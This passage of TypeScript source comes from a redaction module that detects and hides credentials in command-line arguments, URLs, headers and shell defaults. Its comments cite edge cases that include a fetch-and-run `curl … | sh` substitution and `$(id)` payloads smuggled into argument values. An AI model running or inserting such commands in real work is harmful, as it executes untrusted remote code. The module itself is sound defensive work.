let keptScripts: { line: string; words: string[]; places: ReturnType<typeof scriptPlaces> } | undefined;

/** A command line's word values (see `commandWordValues`) and where a script is given in them (see `scriptPlaces`), the last short line's kept. */
function commandScripts(line: string): { words: string[]; places: ReturnType<typeof scriptPlaces> } {
  if (keptScripts?.line === line) return keptScripts;
  const words = commandWordValues(line);
  const read = { line, words, places: scriptPlaces(words) };
  if (line.length <= KEPT_LINE) keptScripts = read;
  return read;
}

/**
 * What a telling name's literal value is written as: a reference named after it (or what `hide`
 * returns) in place of the whole value, or of each literal default's word when those are all the
 * value says in clear (`--password ${DB_PASSWORD:-X}` → `${DB_PASSWORD:-${PASSWORD}}`; see `hideLiteral`).
 * A `${NAME}` tools-mcp fills in what is hidden is kept as written, the text around it hidden apart,
 * when such references are all it reads at run time (see `aroundFilled`; r75c: `["TOKEN=Q${X}J"]`
 * was exported `TOKEN=${TOKEN}`, and filled back gave the server `${X}` as written).
 */
export function literalNamer(hide: SecretHide | undefined): (secret: string, name: string) => string {
  return (secret, name) =>
    hideLiteral(secret, (text) =>
      aroundFilled(text, (literal) => (hide ? hide(literal, name) : reference(name))),
    );
}

/**
 * `text`, a value to be hidden, with each `${NAME}` tools-mcp fills in it kept as written and the
 * text around it hidden apart (see `aroundToolsReferences`), when those are all it reads at run
 * time; `literal(text)` whole when it holds a default's `${NAME:-`, a `$(` or a backtick, or no
 * `${NAME}`.
 */
function aroundFilled(text: string, literal: (text: string) => string): string {
  if (!FILLED_REFERENCE.test(text) || /\$\{[A-Za-z_][A-Za-z0-9_]*:-|\$\(|`/.test(text)) return literal(text);
  return aroundToolsReferences(text, literal);
}

/** A `${NAME}` tools-mcp fills. */
const FILLED_REFERENCE = /\$\{[A-Za-z_][A-Za-z0-9_]*\}/;

/**
 * One argument read with the rules for args, given the argument before it: a telling flag's value
 * (`--token X`, `--api-key=X`), an assignment (`-e GITHUB_TOKEN=X`, also after a flag:
 * `--env=GITHUB_TOKEN=X`), a connection string's telling pair (`Server=db;Password=X;`), a
 * header (`X-Api-Key: X`), curl's `-u user:X`, a URL's credentials and key shapes; with
 * `rules.words`, one line of JSON read by its keys (see `jsonArgSecrets`), a shell's own command holding whitespace kept or replaced whole by a reference
 * `scriptName` names (see `shellScript`), a URL that starts the argument (or its `NAME=` or
 * header value) read as one value to its end, whatever it holds (see `argUrl`), and what that
 * leaves or any other argument holding whitespace read as a
 * command line, every character but a secret's value kept (see `commandLineSecrets`), or replaced
 * whole as a pasted `command` is when it holds a program's own command and that reading leaves a
 * literal the display hides (`sh -c "srv --password \"X\""`). Undefined
 * when nothing is flagged.
 */
export function readArg(
  arg: string,
  previous: string | undefined,
  rules: ArgRules,
  hide: SecretHide | undefined,
  scriptName: () => string = () => "SHELL_COMMAND",
): ArgFound | undefined {
  const named = literalNamer(hide);
  const afterShell = previous !== undefined && SHELL_COMMAND.test(previous);
  // Empty defaults first (`${X:-}TOKEN=QJ`: tools-mcp, X unset, gives the server `TOKEN=QJ`): the
  // rest read as the argument alone is, they kept as written (r75c: kept in clear in both views).
  const empty = rules.words ? EMPTY_DEFAULTS.exec(arg) : null;
  if (empty && empty[0].length < arg.length) {
    const rest = readArg(arg.slice(empty[0].length), previous, rules, hide, scriptName);
    return rest && { sign: rest.sign, safe: empty[0] + rest.safe };
  }
  // A word in literal quotes (`"TOKEN=X"`, `"${V:-TOKEN=Q${X}J}"`: tools-mcp passes the quotes as
  // text, and what is after `TOKEN=` is still the credential) is read as the word inside them, its
  // quotes kept (fix187: kept in clear in both views).
  const quoted = rules.words ? QUOTED_WORD.exec(arg) : null;
  if (quoted) {
    const [, quote = "", word = ""] = quoted;
    const inner = readArg(word, previous, rules, hide, scriptName);
    return inner && { sign: inner.sign, safe: quote + inner.safe + quote };
  }
  // A shell's own command (`sh -c "exec srv --api-key X"`) is kept whole or replaced whole.
  if (rules.words && afterShell && /\s/.test(arg)) return shellScript(arg, hide, scriptName);
  // One line of JSON (`--config {"apiKey":"X"}`), alone or after `--flag=` or `NAME=`: read by its
  // keys, unless it is all a telling flag's or name's value (`--token '{"a":"b"}'`), taken whole below.
  const json =
    rules.words && !tellingValue(arg, previous, rules) ? jsonArgSecrets(arg, rules, hide, scriptName) : null;
  if (json !== null) return json;
  // PowerShell's `$env:API_KEY=X` as one word: read as a pasted line is, its quotes too, and a value
  // that never closes (`$env:API_KEY="X`"b`) hidden to the end (r64-2: read as the command-line
  // reader reads it alone, such a value was kept in clear).
  if (rules.words && pwshAssignment(arg)) return lineSecrets(arg, hide, scriptName, false);
  // After a telling flag alone, a word starting with `-` is its value, unless it is a flag of its
  // own (see `OWN_FLAG`): `--token -VJJ` (read as a flag below, it was kept in clear).
  const flagBefore = previous === undefined ? null : FLAG_ALONE.exec(previous);
  if (
    flagBefore &&
    arg.startsWith("-") &&
    !OWN_FLAG.test(arg) &&
    rules.telling(flagBefore[1] ?? "") &&
    rules.literal(arg)
  )
    return { sign: SecretSign.Flag, safe: named(arg, flagBefore[1] ?? "") };
  // curl's `-uuser:X`, `--user=user:X`, Samba's `-Uuser%X` (X as `userPassword` reads it: a blank in it is the password's).
  const tight = TIGHT_USER.exec(arg) ?? LONG_USER.exec(arg) ?? TIGHT_SAMBA_USER.exec(arg);
  if (tight && userPassword(tight[2] ?? "")) {
    const from = arg.length - (tight[2] ?? "").length;
    return { sign: SecretSign.Flag, safe: arg.slice(0, from) + named(tight[2] ?? "", "password") };
  }
  // A Windows switch with its value (`/password:X`; msbuild's `/p:Password=X` read as the
  // assignment it holds): r101e, kept in clear before; dotnet's `-p:Password=X` alike (r102).
  const win = WIN_SWITCH.exec(arg) ?? DASH_SWITCH.exec(arg);
  if (win?.[2] !== undefined) {
    const [, name = "", inline = ""] = win;
    const prefix = arg.slice(0, arg.length - inline.length);
    if (rules.telling(name) && rules.literal(inline))
      return { sign: SecretSign.Flag, safe: prefix + named(inline, name) };
    // A value holding a list of `;`-separated pairs (msbuild's properties) is read a pair at a
    // time, one reference per telling pair whichever comes first, a `;` before a part that is no
    // pair its value's (see `connectionPairs`; r104i: `/p:Password0=a;Password1=b` had
    // `a;Password1=b` taken whole as the first one's, where `/p:Configuration=Release;Password0=a;
    // Password1=b` had one each); any other as the assignment it holds.
    const inner = pairList(inline, rules)
      ? connectionPairs(inline, rules, literalNamer(hide), hide)
      : readAssignment(inline, rules, hide);
    if (inner) return { sign: inner.sign, safe: prefix + inner.safe };
  }
  const flag = FLAG.exec(arg);
  if (flag) {
    const [, name = "", inline] = flag;
    // A short flag with a key shape tight after its letter (`-pghp_…`): the key, whatever the program.
    if (inline === undefined) return looksLikeKey(arg) ? readValue(arg, hide) : undefined;
    const prefix = arg.slice(0, arg.length - inline.length);
    if (rules.telling(name) && rules.literal(inline))
      return { sign: SecretSign.Flag, safe: prefix + named(inline, name) };
    // `--env=GITHUB_TOKEN=X`, `--conn=Server=db;Password=X`: the value read as the assignment it
    // holds; `--header=X-Api-Key: X` as the header (r101b: read as a value alone, kept in clear).
    const inner =
      readAssignment(inline, rules, hide) ?? argHeader(inline, rules, hide) ?? readValue(inline, hide);
    return inner && { sign: inner.sign, safe: prefix + inner.safe };
  }
  // After a telling flag alone, or a Windows switch alone (`/Password X`), the next word is its value.
  const before = previous === undefined ? null : (FLAG_ALONE.exec(previous) ?? winAlone(previous));
  if (before && rules.telling(before[1] ?? "") && rules.literal(arg))
    return { sign: SecretSign.Flag, safe: named(arg, before[1] ?? "") };
  // curl's `-u user:password` (Samba's `-U user%password`): the password, when it reads as one
  // (docker's `-u 1000:1000` does not).
  const user =
    previous !== undefined && USER_FLAG.test(previous)
      ? (USER_PASSWORD.exec(arg) ?? (/^(?:-U|--user)$/.test(previous) ? SAMBA_USER.exec(arg) : null))
      : null;
  if (user && userPassword(user[2] ?? "")) {
    const from = arg.length - (user[2] ?? "").length;
    return { sign: SecretSign.Flag, safe: arg.slice(0, from) + named(user[2] ?? "", "password") };
  }
  // A header given as an argument: "Authorization: Bearer …", "X-Api-Key: X".
  const header = HEADER_WORD.exec(arg);
  if (header && !URL_START.test(arg) && rules.telling(header[1] ?? "")) return argHeader(arg, rules, hide);
  // An argument holding whitespace (`host=db user=app password=X`), or a `;` after no `-c`
  // (`exec;TOKEN=X`, `Server=db;Password=X`), is read as a line (see `lineSecrets`: a script, a
  // connection string or a command line) and that reading is final, unless it is one telling
  // assignment whose value holds a space or a `;` and follows no `-c` (`-e "DB_PASS=two words"`),
  // which is taken whole below.
  // An argument is one word, whatever it holds: no shell reads it again, so its blanks, quotes and
  // `$(…)` are its bytes. A URL that starts it (or a `NAME=`'s or a header's value) runs to its end
  // and is read as one value first (see `argUrl`; fix173: read as a line, it was cut at a blank,
  // `https://h/p?token=a b` exported as `https://h/p b`, and written again in '…' at a quote). So is
  // a URL later in it, after a blank, when the argument reads as no command line (fix177).
  const url = rules.words ? argUrl(arg, hide, afterShell) : undefined;
  if (url) {
    const rest = readArgRest(url.safe, afterShell, rules, hide, scriptName);
    return { sign: url.sign, safe: url.fill(rest?.safe ?? url.safe) };
  }
  return readArgRest(arg, afterShell, rules, hide, scriptName);
}

/**
 * True when `url` (an argument's text from a URL after a blank) holds its first blank inside a
 * telling pair of its query, no `#` after the pair's start (`https://h/p?b=1&token=a b`,
 * `…&token=a b&api_key=${X}$(curl e|sh)J`; fix178: one with more pairs was read as a line, the
 * payload hidden): the text the argument's reading as a line cut off at that blank is then that
 * value's, hidden with it, and each telling pair after it is hidden with its own. A pair after it
 * that does not tell is the URL's, kept, its text past a blank read again as a line (see
 * `markedRunTime`; fix180: `token=a b&page=1` was read as a line, `b` shown), so nothing the
 * line's reading hid is shown. A blank before the query, in a userinfo, or in a pair that does
 * not tell is read as before (`https://u: password=Y@h/p'Q9` keeps `password=`'s value hidden to its end).
 */
function tellsToEnd(url: string): boolean {
  const blank = url.search(/\s/);
  const query = url.indexOf("?");
  if (blank < 0 || query < 0 || query > blank) return false;
  const start = Math.max(url.lastIndexOf("&", blank), query) + 1;
  const rest = url.slice(start);
  if (rest.includes("#")) return false;
  return tellingPair(rest.split("&")[0] ?? "");
}

/**
 * A URL an argument holds as one value, read to the argument's end (blanks, quotes and `$(…)`
 * included, see `readArg`): the whole argument, or the value after a `NAME=` or a header's
 * `Name: ` when the value starts with a URL; or the first URL after a blank (`see
 * https://h/p?token=a b`) when the argument reads as one value, no command line (see `oneValue`:
 * no shell operator outside its closed substitutions, none left open), and the blank stands in its
 * last telling value (see `tellsToEnd`; fix177: it was read as a line, cut at the blank, `b` shown
 * and exported). Such a later URL's run-time parts stay in sight in the
 * display, as a pasted word's do (the argument may be prose given to a program that runs it; a
 * leading URL's are its bytes, fix173). Undefined when that URL carries no sign. Each part it
 * takes out is written as a mark (a `${…}` reference no reader takes for a literal), so what is
 * left can be read by the other rules for arguments without reading a part twice; `fill` writes
 * each mark's replacement (what `hide` returns, or the URL's default: the part dropped) back.
 */
function argUrl(
  arg: string,
  hide: SecretHide | undefined,
  afterShell = false,
): { sign: SecretSign; safe: string; fill: (text: string) => string } | undefined {
  const assignment = ASSIGNMENT.exec(arg);
  const header = /^([\w.-]+)(\s*:\s*)(\S[\s\S]*)$/.exec(arg);
  let from = URL_START.test(arg)
    ? 0
    : assignment && URL_START.test(assignment[3] ?? "")
      ? arg.length - (assignment[3] ?? "").length
      : header && URL_START.test(header[3] ?? "")
        ? arg.length - (header[3] ?? "").length
        : -1;
  let later = false;
  if (from < 0 && !afterShell) {
    const after = LATER_URL.exec(arg);
    if (after && oneValue(arg) && tellsToEnd(arg.slice(after.index + 1))) {
      from = after.index + 1;
      later = true;
    }
  }
  if (from < 0) return undefined;
  const value = arg.slice(from);
  const sign = stringSign(value, false);
  if (sign !== SecretSign.Userinfo && sign !== SecretSign.Query) return undefined;
  // A later URL's userinfo is hidden whole, so one holding a run-time part is read as before.
  if (later && sign === SecretSign.Userinfo && /\$\(|`/.test(value)) return undefined;
  if (!hide || hide === naming?.hide) {
    // Dropped parts (an export's, see `safeString`) need no mark: what is left is all that is written.
    const safe = arg.slice(0, from) + safeString(value, sign, undefined, hide);
    return { sign, safe, fill: (text) => text };
  }
  const put: string[] = [];
  const marked = safeString(
    value,
    sign,
    undefined,
    (secret, name) => {
      put.push(hide(secret, name));
      return `\${${URL_MARK}${put.length - 1}}`;
    },
    later,
  );
  // A later URL's run-time parts, kept in sight, and its `&`s are marked too: the rest of the
  // argument is read again (see `readArg`), where a part beside a mark would read as a value that
  // says something, and a `&` would cut the URL into words.
  // Each part is shown as the display shows a command (`$(x --password X)` keeps its payload, not X).
  const guarded = later
    ? markedRunTime(marked, (part) => {
        put.push(part.startsWith("&") ? part : shownShellPart(part, hide, (text) => hide(text, undefined)));
        return `\${${URL_MARK}${put.length - 1}}`;
      })
    : marked;
  const marks = new RegExp(`\\$\\{${URL_MARK}(\\d+)\\}`, "g");
  return {
    sign,
    safe: arg.slice(0, from) + guarded,
    // A part's text may hold a mark of its own (a hidden piece inside it): filled in turn.
    fill: (text) =>
      text
        .replace(marks, (_mark, index: string) => put[Number(index)] ?? "")
        .replace(marks, (_mark, index: string) => put[Number(index)] ?? ""),
  };
}

/**
 * `text` with each closed `$(…)` and backtick part (see `runTimeCloses`) and each `&` outside them
 * before a pair whose name tells (with that pair's `name=`, see `tellingPairName`) written as what
 * `mark` returns for it; the rest, `argUrl`'s marks included, as written. One pass.
 */
function markedRunTime(text: string, mark: (part: string) => string): string {
  const closes = runTimeCloses(text);
  let out = "";
  let from = 0;
  let i = 0;
  while (i < text.length) {
    const close = closes.get(i);
    if (close === undefined) {
      if (text[i] === "&") {
        // With the next pair's name and `=`: read again, `token=` between two marks would be
        // literal text a telling value says (fix178: a later URL's pairs after the blank's).
        PAIR_NAME.lastIndex = i + 1;
        const name = PAIR_NAME.exec(text)?.[0] ?? "";
        // A pair whose name does not tell is kept by the URL's reading: its `&` is left to the
        // reading again, which reads its value's text past a blank as before (fix180: `&page=x
        // password=Y` after `token=a b`, the `password=` pair's value hidden).
        if (!tellingPairName(name)) {
          i += 1;
          continue;
        }
        out += text.slice(from, i) + mark(`&${name}`);
        from = i + 1 + name.length;
        i = from;
        continue;
      }
      i += 1;
      continue;
    }
    const opener = runTimeOpenerAt(text, i);
    if (opener === "(" || opener === "`") {
      out += text.slice(from, i) + mark(text.slice(i, close));
      from = close;
    }
    i = close;
  }
  return out + text.slice(from);
}

/** A query pair's name and its `=` (see `markedRunTime`). Sticky. */
const PAIR_NAME = /[^\s&=$`#]*=/y;

/** A header written as one word: its name, the colon with any blanks around it, and its value. */
const HEADER_WORD = /^([\w.-]+)(\s*:\s*)(\S[\s\S]*)$/;

/**
 * A header given as an argument, or as a flag's value (`--header=X-Api-Key: X`), whose name tells:
 * its value hidden when it reads as one under `rules.header`, else what a value alone says there
 * (a key shape, a URL's credentials). Undefined for no such header, or nothing found in it.
 */
function argHeader(arg: string, rules: ArgRules, hide: SecretHide | undefined): ArgFound | undefined {
  const header = HEADER_WORD.exec(arg);
  if (header === null || URL_START.test(arg)) return undefined;
  const [, field = "", colon = "", value = ""] = header;
  if (!rules.telling(field)) return undefined;
  if (rules.header(value, field))
    return { sign: SecretSign.Flag, safe: `${field}${colon}${literalNamer(hide)(value, field)}` };
  const sign = stringSign(value, false);
  return sign && { sign, safe: `${field}${colon}${safeString(value, sign, undefined, hide)}` };
}

/** A URL's start: its scheme and `://`. */
const URL_START = /^[A-Za-z][A-Za-z0-9+.-]*:\/\//;

/** A URL's start after a blank (see `argUrl`). */
const LATER_URL = /\s[A-Za-z][A-Za-z0-9+.-]*:\/\//;

/** What `argUrl` writes inside a mark's `${…}`: a character no argument is read to hold. */
const URL_MARK = "\uE004";

/** See `readArg`: an argument read after what it holds as one URL value (see `argUrl`), or without one. */
function readArgRest(
  arg: string,
  afterShell: boolean,
  rules: ArgRules,
  hide: SecretHide | undefined,
  scriptName: () => string,
): ArgFound | undefined {
  const header = /^([\w.-]+)(\s*:\s*)(\S[\s\S]*)$/.exec(arg);
  const isHeader = header !== null && !URL_START.test(arg);
  // A URL whose password holds a blank (`postgres://u:pa ss@h/db`) is one value, no line.
  SPACED_USERINFO.lastIndex = 0;
  if (SPACED_USERINFO.exec(arg)?.[0] === arg) return readValue(arg, hide);
  if (rules.words && (/\s/.test(arg) || (!afterShell && arg.includes(";")))) {
    const assignment = ASSIGNMENT.exec(arg);
    const whole = assignment !== null && rules.telling(assignment[1] ?? "") && !afterShell && !rules.lines;
    if (!whole) {
      // One holding a program's own command that may hold a credential (see `pastedScript`) is
      // replaced whole, as the same line pasted as a `command` is, when what the line's reading
      // leaves still shows a literal the display hides (r63-1: `sh -c "node -e \"…f('X')\""`, a
      // script one escaped quote level down, kept X in clear); else it is kept so rewritten.
      // The display hides something when a part it hides is marked (r64-5: `bash -c "srv --password
      // '${PASSWORD}$X'"`, only references, was flagged by the display, shown as written, and replaced
      // whole here).
      const asks = () => "";
      if (/\s/.test(arg) && pastedScript(arg, undefined, asks)) {
        const read = lineSecrets(arg, undefined, asks, false);
        const left = read?.safe ?? arg;
        const shown = shownLineSecrets(left, () => HIDDEN_MARK)?.safe;
        if (shown !== undefined && (shown.includes(HIDDEN_MARK) || left.includes(HIDDEN_MARK)))
          return pastedScript(arg, hide, scriptName) ?? undefined;
      }
      return lineSecrets(arg, hide, scriptName, false);
    }
  }
  const assigned = readAssignment(arg, rules, hide);
  if (assigned) return assigned;
  // A word holding a command substitution (`$(PASSWORD=X)`, `` `PASSWORD=X` ``, `x=$(…)`): its
  // command read as a command line's is (r61-4: one such word of a list kept X in clear, while
  // the same text with a blank in it was read as a line).
  // One the shell refuses (a quote left open in the part, `$(TOKEN=X"y)`) goes to the refused-line
  // rule (see `lineSecrets`) as the same text pasted does (fix181: its reading as a command line
  // flagged nothing, `X` kept in clear in both views).
  // Not one whose `$(…)` and backticks all stand in a literal default's word (`${V:-TOKEN=Q$(id)J}`):
  // tools-mcp passes them as text, part of the value (see `plainArgWord`; r74d: read here, `$(id)`
  // was shown and exported in clear between the value's pieces).
  if (rules.words && /\$\(|`/.test(arg) && plainArgWord(arg) === undefined) {
    const line =
      commandLineSecrets(arg, hide, scriptName) ??
      (closesInItself(arg) ? undefined : lineSecrets(arg, hide, scriptName, false));
    if (line) return line;
  }
  if (ASSIGNMENT.test(arg)) return undefined;
  if (isHeader && header) {
    const [, field = "", colon = "", value = ""] = header;
    if (urlSign(value)) {
      const sign = stringSign(value, false) as SecretSign;
      return { sign, safe: `${field}${colon}${safeString(value, sign, undefined, hide)}` };
    }
  }
  const value = readValue(arg, hide);
  if (value || !rules.words) return value;
  // A plain word holding a literal default (`${V:-TOKEN=X}`, `${V:---token=X}`) is what its reader
  // makes of it while `V` is unset (tools-mcp expands it to `TOKEN=X`): read as the same word on a
  // command line is, whose reader reads a default's word in place (fix183: kept in clear in both
  // views, where `srv ${V:-TOKEN=X}` showed `${V:-TOKEN=•}`). Such a word holds nothing a shell
  // reads otherwise than tools-mcp does outside its defaults, and inside them nothing it reads
  // otherwise but a quote, a backslash or a backtick, which the line's reader is given as a letter
  // (see `plainArgWord`; fix185: `${V:-TOKEN=Q&J}`, `${V:-TOKEN=Q"J}`, `${V:-TOKEN=Q\J}` were kept
  // in clear, the plain-word test refusing those characters inside the default too).
  const plain = PLAIN_WORD.test(arg) ? arg : plainArgWord(arg);
  // One whose default is never closed (`${V:-TOKEN=Q"J`, `${V:-TOKEN=QJ`: tools-mcp keeps it as written) is read as
  // the same text pasted is: its value hidden to the end (fix187: kept in clear in both views).
  if ((argWordLetters(arg)?.open ?? 0) > 0) return lineSecrets(arg, hide, scriptName, false) ?? value;
  if (plain === undefined || literalDefaults(plain).length === 0) return value;
  return readAsLetters(hide, (read) => commandLineSecrets(plain, read, scriptName));
}

/** Empty defaults (`${X:-}`, tools-mcp's empty text while X is unset) starting an argument. */

/**
 * A command line's word starting with empty defaults, written bare or just inside the word's `"`
 * (`${X:-}TOKEN=QJ`, `"${X:-}TOKEN=QJ"`, `${X:-}QJ` after `--token`): tools-mcp, X unset, gives the
 * server the rest alone (`TOKEN=QJ`), so the word is read as the rest is, the defaults kept as
 * written, as `readArg` reads an argument (r76a: `srv ${X:-}TOKEN=QJ` was kept in clear in both
 * views). In `'…'` they are the shell's text, as `'${V:-TOKEN=QJ}'` is. Any other word as it is.
 */
function afterEmptyDefaults(line: string, word: CommandWord): CommandWord {
  if (word.operator || word.data || word.nested || !word.dynamic) return word;
  const empty = EMPTY_DEFAULTS.exec(word.value);
  if (!empty) return word;
  const length = empty[0].length;
  const from = word.at[0] as number;
  const quoted = from === word.start + 1 && line[word.start] === '"';
  if ((from !== word.start && !quoted) || line.slice(from, from + length) !== empty[0]) return word;
  if (from + length >= word.end) return word;
  // The word with the defaults cut out, read alone; its positions mapped back to the line.
  const rest = commandWords(line.slice(word.start, from) + line.slice(from + length, word.end));
  if (rest.length !== 1) return word;
  const [own] = rest as [CommandWord];
  const cut = from - word.start;
  if (own.operator || own.start !== 0 || own.end !== word.end - word.start - length) return word;
  const start = quoted ? word.start : from + length;
  return {
    ...word,
    ...own,
    start,
    end: word.end,
    at: own.at.map((k) => k + word.start + (k >= cut ? length : 0)),
    ...(own.defaults ? { defaults: own.defaults } : {}),
  };
}
const EMPTY_DEFAULTS = /^(?:\$\{[A-Za-z_][A-Za-z0-9_]*:-\})+/;

/** A word in a pair of literal quotes, no blank or quote inside: the quote and the word. */
const QUOTED_WORD = /^(["'])([^\s"']+)\1$/;

/**
 * A word a shell reads as tools-mcp reads an argument, but for its defaults: no blank, quote,
 * backslash, run-time part but `${…}`, operator, or comment.
 */
const PLAIN_WORD = /^(?!#)(?:[^\s'"\\`;&|<>()$]|\$\{)*$/;

/**
 * What a shell reads otherwise than tools-mcp does inside a default's word (tools-mcp reads the
 * word as literal text to its `}`), each given as a letter of its own no argument is read to hold
 * (the `$` of a `$(` too: see `SUBSTITUTION_LETTER`).
 */
const AS_LETTER: Readonly<Record<string, string>> = {
  '"': "\uE010",
  "'": "\uE011",
  "\\": "\uE012",
  "`": "\uE013",
};

/** The letter a `$(` inside a default's word has its `$` given as (see `argWordLetters`). */
const SUBSTITUTION_LETTER = "\uE014";

/** A letter of `AS_LETTER` written back as the character it stands for. */
const FROM_LETTER: Readonly<Record<string, string>> = {
  "\uE010": '"',
  "\uE011": "'",
  "\uE012": "\\",
  "\uE013": "`",
  "\uE014": "$",
};

/**
 * `arg`, a plain argument (see `PLAIN_WORD`) but for what its literal defaults' words hold, as the
 * line's reader is to read it as tools-mcp does: each quote, backslash or backtick, and the `$` of a
 * `$(`, inside a default's word given as a letter (`AS_LETTER`; a backslash there no longer keeps
 * the `}` after it from closing the default, as with tools-mcp; `$(id)` there is text, part of the
 * value, r74d), an operator, `(` or another `$` there left as it is (a shell reads them inside
 * `${…}` as text too, `$X` as a reference).
 * Undefined when a blank, or outside every default
 * a quote, backslash, run-time part but `${…}`, operator, or comment, is written, or when a
 * default is left open. One pass.
 */
function plainArgWord(arg: string): string | undefined {
  const read = argWordLetters(arg);
  return read?.open === 0 ? read.word : undefined;
}

/**
 * `arg` read as `plainArgWord` reads it, with how many defaults are left open at its end (fix187:
 * `${V:-TOKEN=Q"J`, one never closed, was kept in clear). Undefined when a blank, or outside every
 * default a quote, backslash, run-time part but `${…}`, operator, or comment, is written.
 */
function argWordLetters(arg: string): { word: string; open: number } | undefined {
  if (arg.startsWith("#") || /[\uE010-\uE014]/.test(arg)) return undefined;
  // The `${…}` parts open at the character read: whether each is a default.
  const open: boolean[] = [];
  let defaults = 0;
  let out = "";
  for (let i = 0; i < arg.length; i += 1) {
    const c = arg[i] as string;
    if (/\s/.test(c)) return undefined;
    if (c === "$" && arg[i + 1] === "{") {
      DEFAULT_OPEN.lastIndex = i;
      const head = DEFAULT_OPEN.exec(arg);
      open.push(head !== null);
      if (head) defaults += 1;
      const to = head ? DEFAULT_OPEN.lastIndex : i + 2;
      out += arg.slice(i, to);
      i = to - 1;
      continue;
    }
    if (c === "}" && open.length > 0) {
      if (open.pop()) defaults -= 1;
      out += c;
      continue;
    }
    if (defaults === 0) {
      if (/['"\\`;&|<>()$]/.test(c)) return undefined;
      out += c;
    } else out += c === "$" && arg[i + 1] === "(" ? SUBSTITUTION_LETTER : (AS_LETTER[c] ?? c);
  }
  return { word: out, open: defaults };
}

/**
 * What `read` finds in a word `plainArgWord` gave (read with the `hide` it is given), each letter
 * that stands for a quote, backslash or backtick written back in the text `hide` is given and in
 * what is returned: the value a reference stands for is the text as written. An export's names (`naming`) are asked through a copy whose `hide`
 * writes back too, so the readers that tell an export's names from a display's still do.
 */
function readAsLetters(
  hide: SecretHide | undefined,
  read: (hide: SecretHide | undefined) => ArgFound | undefined,
): ArgFound | undefined {
  const back = (text: string) => text.replace(/[\uE010-\uE014]/g, (letter) => FROM_LETTER[letter] ?? letter);
  const written =
    hide === undefined ? undefined : (text: string, name: string | undefined) => hide(back(text), name);
  let found: ArgFound | undefined;
  if (naming !== undefined && hide === naming.hide && written !== undefined) {
    const outer = naming;
    naming = { ...outer, hide: written };
    try {
      found = read(written);
    } finally {
      naming = outer;
    }
  } else found = read(written);
  return found && { ...found, safe: back(found.safe) };
}

/** A Windows switch alone, before its value (`/Password`, see `WIN_SWITCH`): its name in group 1. */
function winAlone(word: string): RegExpExecArray | null {
  const win = WIN_SWITCH.exec(word);
  return win && win[2] === undefined ? win : null;
}

/**
 * True when all of `arg` is a literal value under a telling name: after a telling flag alone
 * (`--token X`), or after a telling `--name=` or `NAME=` written in it.
 */
function tellingValue(arg: string, previous: string | undefined, rules: ArgRules): boolean {
  const before = previous === undefined ? null : FLAG_ALONE.exec(previous);
  if (before && rules.telling(before[1] ?? "") && !arg.startsWith("-") && rules.literal(arg)) return true;
  const inline = /^(?:--?([A-Za-z][\w.-]*)|([A-Za-z_][A-Za-z0-9_.-]*))=([\s\S]*)$/.exec(arg);
  return inline !== null && rules.telling(inline[1] ?? inline[2] ?? "") && rules.literal(inline[3] ?? "");
}

/**
 * A value read alone: a URL's credentials, a key shape; else each literal default under a `NAME`
 * whose whole name tells (`${DB_PASSWORD:-X}`, as a shell's command reads it), its word replaced
 * by a reference named after `NAME`.
 */
export function readValue(value: string, hide: SecretHide | undefined): ArgFound | undefined {
  const sign = stringSign(value, false);
  if (sign) return { sign, safe: safeString(value, sign, undefined, hide) };
  const telling = literalDefaults(value).filter(({ name }) => wholeNameTells(name));
  if (telling.length === 0) return undefined;
  let safe = "";
  let from = 0;
  for (const { start, end, name } of telling) {
    const secret = value.slice(start, end);
    safe += value.slice(from, start) + (hide ? hide(secret, name) : reference(name));
    from = end;
  }
  return { sign: SecretSign.Flag, safe: safe + value.slice(from) };
}

/**
 * An assignment (`NAME=value`) or a connection string of `key=value` pairs (`Server=db;…;Password=X;`,
 * JDBC's `jdbc:sqlserver://db;password=X`): a telling name's literal value as a reference; under
 * any other name, the value read alone. Undefined when `text` is neither, or nothing is flagged.
 */
function readAssignment(text: string, rules: ArgRules, hide: SecretHide | undefined): ArgFound | undefined {
  const named = literalNamer(hide);
  const assignment = ASSIGNMENT.exec(text);
  const [, variable = "", operator = "=", value = ""] = assignment ?? [];
  // A telling name's value is taken whole, a `;` in it (`DB_PASS=a;b`) included.
  if (assignment && rules.telling(variable) && rules.literal(value))
    return { sign: SecretSign.Flag, safe: `${variable}${operator}${named(value, variable)}` };
  const pairs = connectionPairs(text, rules, named, hide);
  if (pairs) return pairs;
  // Pairs after a `&` or `,` (`user=a&password=X`, `-o user=a,password=X`): each telling one's value.
  // The rest read alone too (a URL's credentials, a key shape), only when it holds some: the text
  // written back holds a reference per pair, slower to read again than the text as it was.
  const listed = listPairs(text, rules, named);
  if (listed)
    return readValue(text, undefined)
      ? { sign: listed.sign, safe: readValue(listed.safe, hide)?.safe ?? listed.safe }
      : listed;
  if (!assignment) return undefined;
  const inner = readValue(value, hide);
  return inner && { sign: inner.sign, safe: `${variable}${operator}${inner.safe}` };
}

/** A shell's line join: a `\\` before a line break, both dropped where the shell reads them. */
const LINE_JOIN = /\\\n/g;

/** A line break: a text holding one (or a heredoc's `<<`, see `HEREDOC`) is a script, not one command line. */
export const LINE_BREAK = /[\n\r]/;

/**
 * A text read where a command line may be written — an argument holding whitespace that follows no
 * shell flag, a pasted `command` — in one pass, whatever it holds:
 * - a script (a line break or a heredoc's `<<`: a heredoc's body, YAML/JSON/TOML lines) is kept
 *   byte for byte or replaced whole, as a shell's own command is (see `shellScript`): its lines
 *   are no command line's words, and what a body's language says is not read;
 * - one connection string (see `connectionString`: read as a `shell` reads it when the text is a
 *   pasted `command`) has its telling pairs' values, its URLs'
 *   credentials and its key shapes taken out, and what is left read as a command line too;
 * - anything else is a command line (see `commandLineSecrets`), a word of it perhaps a connection string.
 * So what it returns is a fixed point: read again, nothing in it is flagged. Undefined when
 * nothing is flagged.
 */
function lineSecrets(
  line: string,
  hide: SecretHide | undefined,
  scriptName: () => string,
  shell: boolean,
  display = false,
): ArgFound | undefined {
  if (LINE_BREAK.test(line) || HEREDOC.test(line)) return shellScript(line, hide, scriptName);
  // A line the shell refuses (a quote or a run-time part left open) whose reading still leaves a
  // telling name's literal value in clear (r63-3: `"x;Password=X`, `$(;Password=X`, `psql
  // "Server=db;Pwd="X"$("`, where an old rule keeps a mixed value on such a line as written), or
  // writes such a value again in '…' (`Password=X';` → `'Password=${PASSWORD}'`, which would not
  // fill back byte for byte: r63-6): the first telling name's value is hidden to the line's end, in
  // both views — the shell never runs the line, so no payload in it is run either — and what is
  // before it read as before. The readings that decide it name no reference (`hide` is not asked).
  // In the display, so is one whose reading, read again, has a URL's query value flagged again for
